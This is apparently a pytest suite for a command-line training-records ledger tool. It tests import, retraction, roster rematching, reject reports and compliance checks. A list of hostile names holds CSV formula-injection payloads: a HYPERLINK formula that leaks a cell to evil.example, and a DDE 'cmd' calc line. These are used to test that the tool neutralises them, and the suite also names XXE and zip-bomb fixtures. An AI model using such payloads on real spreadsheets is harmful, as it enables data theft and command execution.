"""The ledger commands: ``peertrain ledger init|roster|batches|held|rematch|retract|rejects``,
``peertrain import``, and ``peertrain check --ledger``.

Each runs ``peertrain.cli.main`` in-process. Exit status 0 on success, 2 for bad input (one line
``peertrain: error: ...`` on standard error) or a usage error (argparse's ``SystemExit(2)``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from peertrain import check_compliance, load_bundled_catalogue, load_pack
from peertrain.cli import main
from peertrain.imports.profiles import bundled_profile_ids
from peertrain.ledger import open_ledger
from peertrain.report.output import to_json
from peertrain.rules.compliance import DUE_WITHIN_DAYS
from peertrain.rules.loading import curricula_dir, data_dir

SAMPLES = data_dir() / "integrations" / "samples"
ROSTER = curricula_dir() / "demo" / "roster.csv"
EXPORTS = Path(__file__).parent / "data" / "exports"
COPS_CSV = SAMPLES / "cops-portal-transcript.csv"
HEADER = (
    "Learner Name,Email,Agency,Course Title,Course ID,Enrollment Date,Completion Date,Status,"
    "Credit Hours,Certificate Number\r\n"
)
SUMMARY = re.compile(
    r"^(?P<file>\S+): batch (?P<batch>\d+): (?P<read>\d+) rows read = (?P<imported>\d+) imported "
    r"\((?P<not_completed>\d+) not completed, recorded without credit\) \+ (?P<duplicates>\d+) duplicate \+ "
    r"(?P<rejected>\d+) rejected \+ (?P<unmatched>\d+) held as unmatched\.$",
    re.MULTILINE,
)


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str, str]:
    """``peertrain argv...`` in-process: (exit status, stdout, stderr)."""
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return status, out, err


def usage_error(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> str:
    """Run a command that argparse refuses; returns its standard error."""
    with pytest.raises(SystemExit) as info:
        main([str(a) for a in argv])
    assert info.value.code == 2
    return capsys.readouterr().err


def one_error_line(err: str) -> str:
    """The single ``peertrain: error:`` line of standard error, without the prefix."""
    assert err.endswith("\n"), err
    assert err.count("\n") == 1, err
    assert err.startswith("peertrain: error: ")
    return err.removeprefix("peertrain: error: ").rstrip("\n")


def summaries(out: str) -> list[dict[str, str]]:
    """The import summary lines of the output, as dicts of their parts."""
    return [m.groupdict() for m in SUMMARY.finditer(out)]


@pytest.fixture
def ledger_file(new_location: Callable[..., Path | str], capsys: pytest.CaptureFixture[str]) -> Path | str:
    """A ledger created with ``peertrain ledger init`` in America/Chicago with the demo roster: a
    file, or a PostgreSQL database's URL (the ``backend`` fixture; a test of the file itself is
    parametrised with ``backend`` ``sqlite`` only)."""
    path = new_location("team.db")
    status, out, err = run(capsys, "ledger", "init", path, "--timezone", "America/Chicago", "--roster", ROSTER)
    assert (status, out, err) == (0, f"Created {path} (time zone America/Chicago) with 12 member(s).\n", "")
    return path


# -- ledger init ----------------------------------------------------------------------------------


def test_init_creates_a_ledger_with_the_roster(ledger_file: Path) -> None:
    """The new file is a ledger in the given zone holding the roster's 12 members and no batches."""
    with closing(open_ledger(ledger_file)) as ledger:
        assert ledger.timezone() == "America/Chicago"
        assert [m.id for m in ledger.members()][:3] == ["CC-01", "CC-02", "PL-01"]
        assert len(ledger.members()) == 12
        assert ledger.batches() == []


@pytest.mark.parametrize("backend", ["sqlite"])
def test_init_refuses_an_existing_file(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An existing file is never overwritten: exit 2, one line, the file byte-for-byte unchanged."""
    before = ledger_file.read_bytes()
    status, out, err = run(capsys, "ledger", "init", ledger_file, "--timezone", "UTC")
    assert (status, out) == (2, "")
    assert one_error_line(err) == f"{ledger_file}: already exists; not overwriting it"
    assert ledger_file.read_bytes() == before


@pytest.mark.parametrize("backend", ["postgresql"])
def test_init_refuses_a_database_holding_a_ledger(ledger_file: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A database that already holds a ledger is never initialised again: exit 2, one line."""
    status, out, err = run(capsys, "ledger", "init", ledger_file, "--timezone", "UTC")
    assert (status, out) == (2, "")
    assert one_error_line(err) == f"{ledger_file}: already holds a peertrain ledger; not overwriting it"
    with closing(open_ledger(ledger_file)) as ledger:
        assert ledger.timezone() == "America/Chicago"


@pytest.mark.parametrize("backend", ["postgresql"])
def test_a_password_on_the_command_line_is_refused(ledger_file: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A URL with a literal password is one error line that does not repeat the password."""
    url = ledger_file.replace("postgres@", "postgres:hunter2@")
    status, out, err = run(capsys, "ledger", "batches", "--ledger", url)
    assert (status, out) == (2, "")
    assert "a password may not be written in a ledger URL" in one_error_line(err)
    assert "hunter2" not in err


def test_init_with_a_bad_time_zone_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A time zone that is not an IANA name is refused by the argument parser; nothing is created."""
    err = usage_error(capsys, "ledger", "init", tmp_path / "x.db", "--timezone", "Mars/Olympus")
    assert "'Mars/Olympus' is not an IANA time zone such as America/Chicago" in err
    assert not (tmp_path / "x.db").exists()


# -- import ---------------------------------------------------------------------------------------


def test_import_prints_a_summary_that_adds_up(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Two files in one command: one summary line each, in order, the counts adding up; quiet on
    standard error (not a terminal: no progress bar)."""
    status, out, err = run(
        capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file,
        COPS_CSV, SAMPLES / "cops-portal-transcript-1252.csv",
    )
    assert (status, err) == (0, "")
    assert out.splitlines()[0] == (
        "cops-portal-transcript.csv: batch 1: 16 rows read = 12 imported (4 not completed, recorded without "
        "credit) + 1 duplicate + 0 rejected + 3 held as unmatched."
    )
    lines = summaries(out)
    assert [(s["file"], s["batch"]) for s in lines] == [
        ("cops-portal-transcript.csv", "1"),
        ("cops-portal-transcript-1252.csv", "2"),
    ]
    for s in lines:
        assert int(s["imported"]) + int(s["duplicates"]) + int(s["rejected"]) + int(s["unmatched"]) == int(s["read"])
    assert (lines[1]["read"], lines[1]["imported"], lines[1]["unmatched"]) == ("5", "3", "2")


def test_importing_the_same_file_again_says_so(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A second import of the same bytes imports nothing and names the batch that already has them."""
    run(capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file, SAMPLES / "transcript.xml")
    status, out, _ = run(
        capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file, SAMPLES / "transcript.xml"
    )
    assert status == 0
    assert out == (
        "transcript.xml: batch 2: 10 rows read = 0 imported (0 not completed, recorded without credit) + "
        "10 duplicate + 0 rejected + 0 held as unmatched.\n"
        "  (the same file was already imported as batch 1)\n"
    )


def test_moodle_import_with_course(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A Moodle report imported with --course given as a catalogue alias ('GCI') that agrees with
    the course its file name names; the course is printed before the counts."""
    status, out, _ = run(
        capsys, "import", "--profile", "moodle-completion-csv", "--course", "GCI", "--ledger", ledger_file,
        SAMPLES / "moodle" / "completion-gci.csv",
    )
    assert status == 0
    assert out.splitlines()[0] == "completion-gci.csv: course icisf-gci (Group Crisis Intervention)"
    assert summaries(out) == [{
        "file": "completion-gci.csv", "batch": "1", "read": "10", "imported": "8", "not_completed": "3",
        "duplicates": "0", "rejected": "0", "unmatched": "2",
    }]
    with closing(open_ledger(ledger_file)) as ledger:
        assert {c.course for c in ledger.completions()} == {"icisf-gci"}


def test_import_into_a_missing_ledger_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A ledger path that does not exist is one error line, exit 2, and is not created."""
    missing = tmp_path / "typo.db"
    status, out, err = run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", missing, COPS_CSV)
    assert (status, out) == (2, "")
    assert one_error_line(err) == f"{missing}: no such ledger; create it with 'peertrain ledger init'"
    assert not missing.exists()


def test_import_with_an_unknown_profile_is_an_error(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An unknown profile name lists the bundled ones; exit 2."""
    status, out, err = run(capsys, "import", "--profile", "blackboard", "--ledger", ledger_file, COPS_CSV)
    assert (status, out) == (2, "")
    assert one_error_line(err) == (
        f"blackboard: no such import profile; bundled profiles are: {', '.join(bundled_profile_ids())}"
    )


def test_moodle_report_whose_course_cannot_be_told_is_an_error(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A Moodle report renamed so that its name names no course, and no --course: exit 2 naming
    the file and both ways to say the course; nothing stored."""
    renamed = tmp_path / "report.csv"
    shutil.copyfile(SAMPLES / "moodle" / "completion-gci.csv", renamed)
    status, _, err = run(capsys, "import", "--profile", "moodle-completion-csv", "--ledger", ledger_file, renamed)
    assert status == 2
    line = one_error_line(err)
    assert line.startswith(f"{renamed}: cannot tell which course this report is about")
    assert "--course" in line
    assert "--catalog" in line
    with closing(open_ledger(ledger_file)) as ledger:
        assert ledger.batches() == []


def test_unknown_course_option_is_an_error(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--course must name a catalogue course; the error says how to add one."""
    status, _, err = run(
        capsys, "import", "--profile", "moodle-completion-csv", "--course", "Basket Weaving", "--ledger",
        ledger_file, SAMPLES / "moodle" / "completion-gci.csv",
    )
    assert status == 2
    assert one_error_line(err) == (
        "--course: 'Basket Weaving' is not a course id, title or alias in the catalogue "
        "(courses of your own are added with --catalog FILE; see docs/catalogue.md)"
    )


def test_a_missing_export_is_an_error_before_anything_is_imported(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With one export missing, no file of the command is imported."""
    missing = tmp_path / "nope.csv"
    status, out, err = run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV, missing)
    assert (status, out) == (2, "")
    assert one_error_line(err) == f"{missing}: no such file"
    with closing(open_ledger(ledger_file)) as ledger:
        assert ledger.batches() == []


@pytest.mark.parametrize(
    ("profile", "name", "reason"),
    [
        ("xml-transcript", "xxe.xml", "has a DOCTYPE declaration"),
        ("xml-transcript", "billion-laughs.xml", "has a DOCTYPE declaration"),
        ("cops-portal-xlsx", "not-a-zip.xlsx", "is not an XLSX file"),
        ("cops-portal-xlsx", "zip-bomb.xlsx", "refused"),
    ],
)
def test_a_corrupt_or_hostile_export_is_one_error_line_and_no_batch(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], profile: str, name: str, reason: str
) -> None:
    """Hostile or corrupt files: exit 2, one line naming the file and why, and no batch stored."""
    path = tmp_path / name
    shutil.copyfile(EXPORTS / name, path)
    status, out, err = run(capsys, "import", "--profile", profile, "--ledger", ledger_file, path)
    assert (status, out) == (2, "")
    line = one_error_line(err)
    assert line.startswith(f"{path}: {reason}")
    with closing(open_ledger(ledger_file)) as ledger:
        assert ledger.batches() == []
        assert list(ledger.records()) == []


def test_a_file_failing_after_an_earlier_one_keeps_the_earlier_batch(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each file is its own batch: the good first file stays imported when the second is refused."""
    bad = tmp_path / "bad.csv"
    bad.write_bytes(HEADER.encode() + b"Tom Baker,\x00,,,,,,,,\r\n")
    status, out, err = run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV, bad)
    assert status == 2
    assert [s["file"] for s in summaries(out)] == ["cops-portal-transcript.csv"]
    assert one_error_line(err).startswith(f"{bad}, row 2: contains a NUL character")
    with closing(open_ledger(ledger_file)) as ledger:
        assert [b.file_name for b in ledger.batches()] == ["cops-portal-transcript.csv"]


# -- batches, retract, held, roster ---------------------------------------------------------------


def batch_table(out: str) -> list[list[str]]:
    """The rows of ``ledger batches`` output, split on runs of spaces (header left out)."""
    lines = out.splitlines()
    assert lines[0].split() == [
        "batch", "imported", "at", "(UTC)", "profile", "read", "new", "dup", "rej", "held", "file",
    ]
    return [line.split() for line in lines[1:]]


def test_batches_lists_each_import_with_its_counts(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One line per batch: id, when, profile, rows read, new, duplicate, rejected, held, file; the
    XML transcript repeats three of the CSV's completions (same member, course and date)."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    run(capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file, SAMPLES / "transcript.xml")
    status, out, _ = run(capsys, "ledger", "batches", "--ledger", ledger_file)
    assert status == 0
    rows = batch_table(out)
    assert [row[:1] + row[3:] for row in rows] == [
        ["1", "cops-portal-csv", "16", "12", "1", "0", "3", "cops-portal-transcript.csv"],
        # Dana's GCI, Erin's AIC and Jake's failed ASIST came in with the CSV already.
        ["2", "xml-transcript", "10", "5", "3", "0", "2", "transcript.xml"],
    ]
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d", row[1]) and re.fullmatch(r"\d\d:\d\d:\d\d", row[2]) for row in rows)


def test_retract_removes_a_batch_and_the_file_can_be_imported_again(
    ledger_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Retracting batch 1 removes its 12 records and 3 held rows but not batch 2's; batch 1 stays
    listed as retracted; importing the file again imports the 12 again as a new batch."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    run(capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file, SAMPLES / "transcript.xml")
    with closing(open_ledger(ledger_file)) as ledger:
        xml_records = [r.id for r, batch in ledger.records() if batch == 2]
    status, out, err = run(capsys, "ledger", "retract", "--ledger", ledger_file, "1")
    assert status == 0
    assert out == "Retracted batch 1 (cops-portal-transcript.csv): 12 record(s) removed.\n"
    # The XML transcript repeated three of batch 1's records; the ledger kept them once, under batch 1.
    assert err == (
        "peertrain: warning: later batch(es) 2 (transcript.xml) counted rows as duplicates; any that were "
        "records of the retracted batch are gone with it. Import those files again to restore them (an "
        "import never adds a record twice).\n"
    )
    with closing(open_ledger(ledger_file)) as ledger:
        assert [r.id for r, _ in ledger.records()] == xml_records
        assert {h.batch for h in ledger.held()} == {2}
        assert ledger.batches()[0].retracted_at is not None
    _, out, _ = run(capsys, "ledger", "batches", "--ledger", ledger_file)
    assert re.search(r"cops-portal-transcript\.csv  \(retracted \d{4}-\d\d-\d\d\)$", out.splitlines()[1])
    status, out, _ = run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    assert status == 0
    assert summaries(out)[0] | {"file": ""} == {
        "file": "", "batch": "3", "read": "16", "imported": "12", "not_completed": "4", "duplicates": "1",
        "rejected": "0", "unmatched": "3",
    }
    assert "already imported" not in out


def test_retract_warning_and_reimport_restore_the_shared_records(
    ledger_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """After batch 1 is retracted, the three records the XML transcript shared with it are gone;
    importing the XML again, as the warning says, brings exactly those three back."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    run(capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file, SAMPLES / "transcript.xml")
    with closing(open_ledger(ledger_file)) as ledger:
        before = {r.id for r, batch in ledger.records() if batch == 2}
    run(capsys, "ledger", "retract", "--ledger", ledger_file, "1")
    status, out, _ = run(capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file,
                         SAMPLES / "transcript.xml")
    assert status == 0
    assert summaries(out)[0] | {"file": ""} == {
        # 5 records still there and the 2 rows batch 2 holds as unmatched are duplicates.
        "file": "", "batch": "3", "read": "10", "imported": "3", "not_completed": "1", "duplicates": "7",
        "rejected": "0", "unmatched": "0",
    }
    with closing(open_ledger(ledger_file)) as ledger:
        restored = {r.id for r, batch in ledger.records() if batch == 3}
        assert len(restored) == 3
        assert not restored & before
        assert {r.id for r, _ in ledger.records()} == before | restored


def test_retract_without_later_duplicates_gives_no_warning(
    ledger_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Only a later live batch that counted duplicates is named."""
    run(capsys, "import", "--profile", "xml-transcript", "--ledger", ledger_file, SAMPLES / "transcript.xml")
    status, out, err = run(capsys, "ledger", "retract", "--ledger", ledger_file, "1")
    assert (status, err) == (0, "")
    assert out == "Retracted batch 1 (transcript.xml): 8 record(s) removed.\n"


def test_retract_errors(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Retracting a batch that does not exist, or one already retracted, is exit 2 with one line."""
    status, _, err = run(capsys, "ledger", "retract", "--ledger", ledger_file, "9")
    assert status == 2
    assert one_error_line(err) == f"{ledger_file}: no batch 9"
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    run(capsys, "ledger", "retract", "--ledger", ledger_file, "1")
    status, _, err = run(capsys, "ledger", "retract", "--ledger", ledger_file, "1")
    assert status == 2
    assert re.fullmatch(r"batch 1 was already retracted on \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", one_error_line(err))


def test_roster_update_rematches_held_rows(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Adding Jordan Pike to the roster imports his held completion at once; the held list shrinks
    from 3 to 2; loading the same roster again adds nothing and imports nothing."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    _, out, _ = run(capsys, "ledger", "held", "--ledger", ledger_file)
    assert out.splitlines()[-1] == "3 row(s) held as unmatched."
    roster = tmp_path / "roster.csv"
    roster.write_text(
        ROSTER.read_text(encoding="utf-8").rstrip("\n")
        + "\nRB-01,Jordan Pike,Riverbend PD,peer_supporter,intervention,2024-01-08,jordan.pike@riverbend.example,\n",
        encoding="utf-8",
    )
    status, out, _ = run(capsys, "ledger", "roster", "--ledger", ledger_file, roster)
    assert status == 0
    assert out == "Roster: 1 added, 0 updated.\nHeld rows: 1 now imported, 0 duplicate, 2 still unmatched.\n"
    _, out, _ = run(capsys, "ledger", "held", "--ledger", ledger_file)
    held = out.splitlines()
    assert held[-1] == "2 row(s) held as unmatched."
    assert [line.split()[3] for line in held[:-1]] == ["cops-portal-transcript.csv:13", "cops-portal-transcript.csv:15"]
    with closing(open_ledger(ledger_file)) as ledger:
        assert [c.id for c in ledger.completions() if c.member == "RB-01"] == ["RB-01/qpr/2025-02-03"]
    _, out, _ = run(capsys, "ledger", "roster", "--ledger", ledger_file, roster)
    assert out == "Roster: 0 added, 0 updated.\nHeld rows: 0 now imported, 0 duplicate, 2 still unmatched.\n"


def test_rematch_with_an_extra_catalogue(ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``ledger rematch --catalog`` matches a held row whose course the extra catalogue knows."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    local = tmp_path / "local.toml"
    local.write_text(
        '[[courses]]\nid = "fq-handgun"\ntitle = "Firearms Qualification - Handgun"\nprovider = "Agency"\n',
        encoding="utf-8",
    )
    status, out, _ = run(capsys, "ledger", "rematch", "--ledger", ledger_file, "--catalog", local)
    assert (status, out) == (0, "Held rows: 1 now imported, 0 duplicate, 2 still unmatched.\n")
    with closing(open_ledger(ledger_file)) as ledger:
        assert "PL-04/fq-handgun/2025-01-15" in [c.id for c in ledger.completions()]


# -- reject reports: spreadsheet-safe ------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def hostile_export(folder: Path) -> Path:
    """An export whose rejected rows (bad dates) carry formula-like text in the first cell."""
    rows = "".join(
        f'"{name.replace(chr(34), chr(34) * 2)}",x@y.example,Pine Lake PD,QPR,X,,31.12.2024,Completed,1,\r\n'
        for name in HOSTILE_NAMES
    )
    path = folder / "hostile.csv"
    path.write_text(HEADER + rows, encoding="utf-8", newline="")
    return path


def parse_rejects(text: str) -> list[list[str]]:
    """A reject report's rows (header checked and left out)."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["batch", "file", "row", "field", "reason", "cells"]
    return rows[1:]


def expected_cells(name: str) -> str:
    """What the 'cells' column must hold for a hostile row: neutralised with a leading quote."""
    return "'" + " | ".join([name, "x@y.example", "Pine Lake PD", "QPR", "X", "", "31.12.2024", "Completed", "1", ""])


def test_reject_report_neutralises_formulas(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``ledger rejects`` and ``import --rejects`` write cells starting with = + - @ with a leading
    quote, so a spreadsheet shows them as text; everything else is as stored."""
    export = hostile_export(tmp_path)
    report = tmp_path / "rejects.csv"
    status, out, _ = run(
        capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, "--rejects", report, export
    )
    assert status == 0
    assert summaries(out)[0]["rejected"] == "4"
    assert f"  rejected rows written to {report}" in out.splitlines()
    from_import = report.read_bytes().decode("utf-8-sig")
    status, from_command, _ = run(capsys, "ledger", "rejects", "--ledger", ledger_file)
    assert status == 0
    assert from_command == from_import
    reason = (
        "'31.12.2024' is not a date in ISO 8601 or any format the profile declares ('%m/%d/%Y', "
        "'%m/%d/%Y %I:%M %p', '%m/%d/%Y %I:%M:%S %p', '%m/%d/%Y %H:%M')"
    )
    assert parse_rejects(from_command) == [
        ["1", "hostile.csv", str(row), "completed_on", reason, expected_cells(name)]
        for row, name in enumerate(HOSTILE_NAMES, start=2)
    ]
    assert parse_rejects(from_command)[0][5].startswith("'=HYPERLINK(")


def test_reject_report_to_a_file_and_by_batch(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``ledger rejects -o FILE --batch N`` writes only that batch's rows, UTF-8 with a BOM for Excel;
    a file name that looks like a formula is neutralised too."""
    export = hostile_export(tmp_path)
    formula_named = export.rename(tmp_path / "=cmd.csv")
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, formula_named)
    output = tmp_path / "report.csv"
    status, out, _ = run(capsys, "ledger", "rejects", "--ledger", ledger_file, "--batch", "2", "-o", output)
    assert (status, out) == (0, "")
    data = output.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = parse_rejects(data.decode("utf-8-sig"))
    assert [(r[0], r[1], r[2]) for r in rows] == [("2", "'=cmd.csv", str(n)) for n in range(2, 6)]
    _, out, _ = run(capsys, "ledger", "rejects", "--ledger", ledger_file, "--batch", "1")
    assert parse_rejects(out) == []


# -- check --ledger --------------------------------------------------------------------------------


def test_check_evaluates_the_ledger(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``check --ledger`` gives exactly what the library gives for the ledger's members and
    completions (JSON, same date and pack), and its verdicts cite the imported completions."""
    for profile, name, extra in (
        ("cops-portal-csv", "cops-portal-transcript.csv", []),
        ("cops-portal-xlsx", "cops-portal-transcript.xlsx", []),
        ("xml-transcript", "transcript.xml", []),
        ("moodle-completion-csv", "moodle/completion-gci.csv", []),
    ):
        status, _, _ = run(capsys, "import", "--profile", profile, *extra, "--ledger", ledger_file, SAMPLES / name)
        assert status == 0
    status, out, err = run(
        capsys, "check", "--ledger", ledger_file, "--rules", "example-agency", "--as-of", "2026-11-15",
        "--format", "json",
    )
    catalogue = load_bundled_catalogue()
    with closing(open_ledger(ledger_file)) as ledger:
        members = ledger.members()
        completions = list(ledger.completions())
    result = check_compliance(
        members, completions, [load_pack("example-agency", catalogue)], dt.date(2026, 11, 15),
        catalogue=catalogue, due_within=DUE_WITHIN_DAYS,
    )
    assert out == to_json(result, members)
    assert not result.compliant
    assert (status, err) == (1, "")
    verdicts = json.loads(out)
    assert len(verdicts) == 40
    assert {v["member"] for v in verdicts} == {m.id for m in members}
    dana = {v["requirement"]: (v["status"], v["evidence"]) for v in verdicts if v["member"] == "PL-01"}
    # The Moodle GCI (Feb 2025) and the XML transcript's online PFA (4 March 2025, a UTC time).
    assert dana["crisis-response"] == ("met", ["PL-01/icisf-gci/2025-02-04", "PL-01/nctsn-pfa-online/2025-03-04"])
    assert dana["rps"] == ("not_met", [])


# -- fixes from review ------------------------------------------------------------------------------


def test_batch_counts_still_add_up_after_a_rematch(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A held row that is matched later moves from the batch's held count to its imported count."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    roster = tmp_path / "roster.csv"
    roster.write_text(
        ROSTER.read_text(encoding="utf-8").rstrip("\n")
        + "\nRB-01,Jordan Pike,Riverbend PD,peer_supporter,intervention,2024-01-08,jordan.pike@riverbend.example,\n",
        encoding="utf-8",
    )
    run(capsys, "ledger", "roster", "--ledger", ledger_file, roster)
    with closing(open_ledger(ledger_file)) as ledger:
        (batch,) = ledger.batches()
    c = batch.counts
    assert (c.rows_read, c.imported, c.duplicates, c.rejected, c.unmatched) == (16, 13, 1, 0, 2)
    status, out, _ = run(capsys, "ledger", "retract", "1", "--ledger", ledger_file)
    assert (status, out) == (0, "Retracted batch 1 (cops-portal-transcript.csv): 13 record(s) removed.\n")


def test_rejects_of_several_files_go_into_one_report(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``import --rejects`` with two files keeps both files' rejected rows, not only the last's."""
    first = hostile_export(tmp_path)
    second = tmp_path / "second.csv"
    shutil.copyfile(first, second)
    report = tmp_path / "rejects.csv"
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, "--rejects", report, first, second)
    rows = parse_rejects(report.read_bytes().decode("utf-8-sig"))
    assert [(r[0], r[1]) for r in rows] == [("1", "hostile.csv")] * 4 + [("2", "second.csv")] * 4


def test_extra_catalogue_clashing_with_the_bundled_one_is_one_error_line(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``import --catalog`` and ``ledger rematch --catalog`` with a file reusing a bundled course id
    give one line naming the file and key, not a traceback."""
    clash = tmp_path / "clash.toml"
    clash.write_text('[[courses]]\nid = "qpr"\ntitle = "Another QPR"\nprovider = "Agency"\n', encoding="utf-8")
    status, _, err = run(
        capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, "--catalog", clash, COPS_CSV
    )
    assert status == 2
    assert one_error_line(err).startswith(f"{clash}: courses[0].id: duplicate course id 'qpr'")
    status, _, err = run(capsys, "ledger", "rematch", "--ledger", ledger_file, "--catalog", clash)
    assert status == 2
    assert one_error_line(err).startswith(f"{clash}: courses[0].id: duplicate course id 'qpr'")


@pytest.mark.parametrize("backend", ["sqlite"])  # PostgreSQL's concurrency: a later phase
def test_a_busy_ledger_is_a_clear_error(ledger_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """While another connection holds the write lock, an import fails with one line saying the
    ledger is busy (after the wait), and stores nothing."""
    import sqlite3

    holder = sqlite3.connect(ledger_file, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        with closing(open_ledger(ledger_file)) as ledger:
            ledger._db.execute("PRAGMA busy_timeout = 100")  # type: ignore[attr-defined]
            from peertrain.imports.importer import import_file
            from peertrain.imports.profiles import load_profile
            from peertrain.ledger import LedgerError

            with pytest.raises(LedgerError, match="the ledger is busy or cannot be written"):
                import_file(ledger, load_profile("cops-portal-csv"), COPS_CSV, load_bundled_catalogue())
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    with closing(open_ledger(ledger_file)) as ledger:
        assert ledger.batches() == []


def test_implausible_dates_are_rejected_rows(
    ledger_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A completion dated in year 1 (which rule windows cannot reach back from) is a rejected row,
    so a later check never crashes on it."""
    export = tmp_path / "old.csv"
    export.write_text(
        HEADER + "Dana Whitfield,dana.whitfield@pinelake.example,Pine Lake PD,QPR,X,,01/01/0001,Completed,1,\r\n",
        encoding="utf-8", newline="",
    )
    _, out, _ = run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, export)
    assert summaries(out)[0]["rejected"] == "1"
    _, out, _ = run(capsys, "ledger", "rejects", "--ledger", ledger_file)
    assert parse_rejects(out)[0][3:5] == ["completed_on", "0001-01-01 is outside the years 1900-2999"]
    status, _, _ = run(capsys, "check", "--ledger", ledger_file, "--rules", "mn-post-license", "--as-of", "2026-01-01")
    assert status in (0, 1)


def test_as_of_outside_plausible_years_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    """``--as-of 9999-12-31`` is refused at once instead of crashing in date arithmetic."""
    err = usage_error(capsys, "check", "--demo", "--as-of", "9999-12-31")
    assert "'9999-12-31' is outside the years 1900-2999" in err


def test_calendar_from_a_ledger(ledger_file: Path | str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``calendar --ledger`` writes a member's deadline feed from the ledger's records (either backend)."""
    run(capsys, "import", "--profile", "cops-portal-csv", "--ledger", ledger_file, COPS_CSV)
    feed = tmp_path / "pl-01.ics"
    status, _, err = run(
        capsys, "calendar", "--feed", "member:PL-01", "--ledger", ledger_file, "--rules", "mn-181-9731",
        "--as-of", "2026-11-15", "-o", feed,
    )
    assert (status, err) == (0, f"Wrote {feed} (member:PL-01 feed, 1 events).\n")
    text = feed.read_text(encoding="utf-8")
    assert text.startswith("BEGIN:VCALENDAR")
    assert text.count("BEGIN:VEVENT") == 1
